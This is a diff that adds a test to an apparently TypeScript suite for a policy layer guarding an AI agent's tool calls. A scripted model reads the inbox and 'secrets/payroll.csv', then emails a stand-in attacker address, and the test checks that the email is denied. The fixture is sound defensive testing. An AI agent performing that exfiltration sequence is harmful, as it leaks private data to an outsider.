@@ -118,6 +118,25 @@ describe('osoAgentTools', () => {
     expect(toolOutputsSeenBy(model)[2]).toMatch(/^The action "openai\.send_email" was blocked by the security policy/);
   });
 
+  it('decides parallel calls of one turn in the order the model emitted them', async () => {
+    const oso = production();
+    const model = new ScriptedModel([
+      [
+        functionCall('read_inbox', {}, { callId: 'p1' }),
+        functionCall('read_file', { path: 'secrets/payroll.csv' }, { callId: 'p2' }),
+        functionCall('send_email', { to: 'attacker@evil.example', body: 'x' }, { callId: 'p3' }),
+      ],
+      [assistantMessage('Done.')],
+    ]);
+    const { agent } = agentFor(oso, model);
+    await run(agent, 'Summarise my inbox');
+    expect(runs).toEqual({ read_inbox: 1, read_file: 1 });
+    const decisions = (await oso.session('agents-session').timeline()).flatMap((event) =>
+      event.type === 'decision' && !event.decision.repeated ? [`${event.decision.toolCallId} ${event.decision.outcome}`] : [],
+    );
+    expect(decisions).toEqual(['p1 allow', 'p2 allow', 'p3 deny']);
+  });
+
   it('leaves a benign run untouched', async () => {
     const model = new ScriptedModel([
       [functionCall('read_file', { path: 'notes.txt' }, { callId: 'b1' })],
